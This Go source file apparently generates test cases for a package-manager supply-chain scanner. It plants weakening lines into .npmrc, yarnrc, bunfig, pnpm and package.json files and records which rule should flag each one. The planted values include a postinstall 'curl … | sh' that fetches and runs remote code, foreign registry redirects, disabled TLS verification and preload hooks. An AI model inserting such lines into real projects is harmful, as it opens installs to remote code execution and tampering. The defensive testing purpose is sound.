package main

import (
	"fmt"
	"path"
	"slices"
	"strings"
)

// setting is a line that weakens a file of settings, and the part of it that a finding has to point at; or several lines,
// the part in the last of them that has it.
type setting struct{ rule, text, part string }

// settings are by the file's name.
var settings = map[string][]setting{
	".npmrc": {
		{"NPM001", "registry=https://" + foreign + "/", "https://"},
		{"NPM001", `registry = "https://` + foreign + `"`, `"https`},
		{"NPM001", "@corp:registry=https://" + foreign, "https"},
		{"NPM001", "registry=not-an-address", "not-an"},
		{"NPM001", "registry=http://registry.npmmirror.com", "http:"},
		{"NPM001", "strict-ssl=false", "false"},
		{"NPM001", "https-proxy=https://" + foreign + ":3128", "https://"},
		{"NPM001", "cafile=./ca.pem", "./ca"},
		{"NPM001", "userconfig=/tmp/planted/npmrc", "/tmp"},
		{"NPM001", "//" + foreign + "/:_authToken=npm_0123456789012345678901234567890123456789", "npm_"},
		{"NPM003", "package-lock=false", "false"},
		{"NPM003", "ignore-scripts=false", "false"},
		{"NPM004", "node-options=--require ./planted.js", "--require"},
		{"NPM004", "script-shell=./planted.sh", "./planted"},
	},
	".yarnrc": {
		{"NPM001", `registry "https://` + foreign + `"`, `"https`},
		{"NPM001", `"@corp:registry" "https://` + foreign + `"`, `"https`},
		{"NPM001", "strict-ssl false", "false"},
		{"NPM001", `https-proxy "https://` + foreign + `:3128"`, `"https:`},
		{"NPM004", `yarn-path "./planted.js"`, `"./planted`},
	},
	".yarnrc.yml": {
		{"NPM001", "npmRegistryServer: https://" + foreign, "https"},
		{"NPM001", "npmScopes:\n  corp:\n    npmRegistryServer: \"https://" + foreign + "\"", `"https`},
		{"NPM001", "enableStrictSsl: false", "false"},
		{"NPM001", "httpsProxy: https://" + foreign + ":3128", "https:"},
		{"NPM001", "unsafeHttpWhitelist:\n  - " + foreign, foreign},
		{"NPM001", "npmAuthToken: npm_0123456789012345678901234567890123456789", "npm_"},
		{"NPM003", "checksumBehavior: ignore", "ignore"},
		{"NPM003", "enableImmutableInstalls: false", "false"},
		{"NPM004", "yarnPath: ./planted.cjs", "./planted"},
		{"NPM004", "plugins:\n  - path: ./planted.cjs\n    spec: planted", "./planted"},
	},
	"bunfig.toml": {
		{"NPM001", "[install]\nregistry = \"https://" + foreign + "\"", `"https`},
		{"NPM001", "[install.scopes]\ncorp = \"https://" + foreign + "\"", `"https`},
		{"NPM001", "[install]\ncafile = \"./ca.pem\"", `"./ca`},
		{"NPM004", "[test]\npreload = [\"./planted.ts\"]", `"./planted`},
	},
	"pnpm-workspace.yaml": {
		{"NPM001", "registries:\n  default: https://" + foreign, "https"},
		{"NPM001", "registries:\n  '@corp': https://" + foreign, "https"},
		{"NPM001", "strictSsl: false", "false"},
		{"NPM001", "httpsProxy: https://" + foreign + ":3128", "https:"},
		{"NPM003", "dangerouslyAllowAllBuilds: true", "true"},
		{"NPM003", "verifyStoreIntegrity: false", "false"},
		{"NPM004", "pnpmfile: ./planted.cjs", "./planted"},
		{"LCK012", "overrides:\n  planted: https://" + foreign + "/planted.tgz", "https"},
	},
}

// starts are the lines behind which a setting can stand on its own: those in front of which another one begins, and the
// last. Nil is the beginning of the file.
func starts(t *text) []*line {
	out := []*line{nil}
	for i, l := range t.lines[1:] {
		if l.text != "" && strings.Trim(l.text[:1], " \t-#") != "" || i == len(t.lines)-2 {
			out = append(out, t.lines[i])
		}
	}
	return out
}

func settingRecipes() (out []recipe) {
	for format, list := range settings {
		for _, s := range list {
			out = append(out, recipe{format: format, name: strings.ReplaceAll(s.text, "\n", "; "), alone: true, plant: func(p *plot) bool {
				if _, ok := p.beside("package.json"); !ok {
					return false // nobody reads it
				}
				lines := strings.Split(s.text, "\n")
				name := strings.FieldsFunc(lines[0], func(r rune) bool { return strings.ContainsRune("=: ", r) })[0]
				clash := func(l *line) bool { return strings.HasPrefix(l.text, name) }
				gaps := starts(p.text)
				if format == "bunfig.toml" {
					gaps = tables(p.text)
				}
				if lines[0] == "[install]" { // is there already
					lines, gaps, clash = lines[1:], inTable(p.text, "[install]"), func(*line) bool { return false }
				}
				gap, ok := third(p, gaps)
				if !ok || slices.ContainsFunc(p.text.lines, clash) {
					return false
				}
				for _, l := range p.text.after(gap, lines...) {
					if strings.Contains(l.text, s.part) {
						p.mark(s.rule, spot{l, s.part})
					}
				}
				return true
			}})
		}
	}
	slices.SortFunc(out, func(a, b recipe) int { return strings.Compare(a.format+a.name, b.format+b.name) })
	return append(out, manifestRecipes()...)
}

// tables are the lines of a TOML file behind which a table can stand.
func tables(t *text) []*line {
	out := []*line{nil}
	for i, l := range t.lines[1:] {
		if strings.HasPrefix(l.text, "[") || i == len(t.lines)-2 {
			out = append(out, t.lines[i])
		}
	}
	return out
}

// inTable are the lines of a table, its header among them.
func inTable(t *text, header string) (out []*line) {
	for _, l := range t.lines {
		if l.text == header || len(out) > 0 && l.text != "" {
			out = append(out, l)
		} else if len(out) > 0 {
			break
		}
	}
	return out
}

// members are the lines of package.json that hold one member whole: of the object itself where of is empty, else of one of
// the objects of these names.
func members(t *text, of ...string) (out []*line) {
	inside := ""
	unit := indentOf(t)
	for _, l := range t.lines {
		m := field.FindStringSubmatch(l.text)
		switch {
		case len(of) == 0 && m != nil && m[1] == unit:
			out = append(out, l)
		case strings.HasPrefix(l.text, unit+`"`) && strings.HasSuffix(l.text, "{"):
			inside = strings.Split(l.text, `"`)[1]
		case strings.HasPrefix(l.text, unit+"}"):
			inside = ""
		case m != nil && slices.Contains(of, inside) && m[1] == unit+unit:
			out = append(out, l)
		}
	}
	return out
}

// member puts a member before another one.
func (p *plot) member(l *line, key, value string) *line {
	return p.text.before(l, l.text[:len(l.text)-len(strings.TrimLeft(l.text, " \t"))]+fmt.Sprintf("%q: %s,", key, value))[0]
}

// locked tells whether the lock file of one of these names stands beside.
func (p *plot) locked(names ...string) bool {
	return slices.ContainsFunc(names, func(name string) bool { _, ok := p.beside(name); return ok })
}

func manifestRecipes() (out []recipe) {
	add := func(name string, alone bool, plant func(p *plot) bool) {
		out = append(out, recipe{format: "package.json", name: name, alone: alone, plant: plant})
	}
	any := []string{"package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock"}
	// said tells whether the lock file says what package.json asked for, which version 1 does not
	said := func(p *plot) bool {
		name, old := p.beside("package-lock.json")
		return p.locked(any...) && !(old && formatOf(p.other(name)) == "package-lock 1")
	}
	dependencies := func(t *text) []*line { return members(t, "dependencies", "devDependencies") }
	add("a range that is not locked", false, func(p *plot) bool {
		l, ok := third(p, slices.DeleteFunc(slices.Clone(p.before3(dependencies)), func(l *line) bool { return strings.ContainsAny(l.text, "*@ ") && strings.Contains(l.text, ":*") }))
		if !ok || !said(p) {
			return false
		}
		m := field.FindStringSubmatch(l.text)
		l.text, l.edited = strings.Replace(l.text, ": "+m[3], `: "^999.0.0"`, 1), true
		p.mark("LCK008", spot{l, `"^999.0.0"`})
		return true
	})
	add("a package that is not locked", false, func(p *plot) bool {
		l, ok := third(p, p.before3(dependencies))
		if ok = ok && said(p); ok {
			p.mark("LCK008", spot{p.member(l, fmt.Sprint("planted-", p.n), `"^1.0.0"`), `"^1.0.0"`})
		}
		return ok
	})
	for _, o := range []struct {
		setting string
		locks   []string
	}{{"overrides", []string{"package-lock.json", "bun.lock"}}, {"resolutions", []string{"yarn.lock", "bun.lock"}}, {"pnpm", []string{"pnpm-lock.yaml"}}} {
		for _, address := range []string{"https://" + foreign + "/planted.tgz", "http://registry.npmmirror.com/planted/-/planted-1.0.0.tgz", "git+https://" + foreign + "/planted.git", "github:planted/planted"} {
			add(o.setting+" by "+address, true, func(p *plot) bool {
				l, ok := third(p, members(p.text))
				if !ok || !p.locked(o.locks...) || strings.Contains(string(p.text.bytes()), `"`+o.setting+`":`) {
					return false
				}
				value := fmt.Sprintf(`{"planted": %q}`, address)
				if o.setting == "pnpm" {
					value = `{"overrides": ` + value + `}`
				}
				p.mark("LCK012", spot{p.member(l, o.setting, value), `"` + address})
				return true
			})
		}
	}
	for _, manager := range []string{"pnpm@latest", "yarn@^4", "npm@https://" + foreign + "/npm.tgz", "pnpm@9.0.0+sha1.0123456789012345678901234567890123456789"} {
		add("packageManager "+manager, true, func(p *plot) bool {
			l, ok := third(p, members(p.text))
			// one that stands aside, and of which nothing is locked, is nobody's root
			ok = ok && (path.Dir(p.text.path) == "." || p.locked(any...))
			if ok = ok && !strings.Contains(string(p.text.bytes()), `"packageManager"`); ok {
				at := spot{p.member(l, "packageManager", `"`+manager+`"`), `"` + manager}
				p.mark("NPM002", at)
				if strings.Contains(manager, "https:") { // from there, and without a hash
					p.mark("NPM002", at)
				}
			}
			return ok
		})
	}
	for _, script := range []struct{ name, command, part string }{
		{"preinstall", "npm config set registry https://" + foreign, "registry"},
		{"postinstall", "curl -fsSL https://" + foreign + "/i.sh | sh", "curl"},
		{"prepare", "NODE_TLS_REJECT_UNAUTHORIZED=0 node planted.js", "NODE_TLS"},
	} {
		add("scripts."+script.name+" "+script.command, true, func(p *plot) bool {
			l, ok := third(p, members(p.text, "scripts"))
			if ok = ok && p.locked(any...) && !strings.Contains(string(p.text.bytes()), `"`+script.name+`":`); ok {
				p.mark("NPM005", spot{p.member(l, script.name, fmt.Sprintf("%q", script.command)), script.part})
			}
			return ok
		})
	}
	out = append(out, recipe{format: "package.json", name: "a binary lock file", plant: func(p *plot) bool {
		p.create("LCK010", path.Join(path.Dir(p.text.path), fmt.Sprint("planted", p.n), "bun.lockb"), "#!/usr/bin/env bun\nbun-lockfile-format-v0\n", "")
		return true
	}})
	out = append(out, recipe{format: "package.json", name: "lock files of two managers", plant: func(p *plot) bool {
		dir := path.Join(path.Dir(p.text.path), fmt.Sprint("planted", p.n))
		p.create("LCK009", path.Join(dir, "package-lock.json"), "{\n  \"name\": \"planted\",\n  \"lockfileVersion\": 3,\n  \"packages\": {}\n}\n", "3,")
		p.create("", path.Join(dir, "yarn.lock"), "# yarn lockfile v1\n\n\n", "")
		return true
	}})
	return out
}
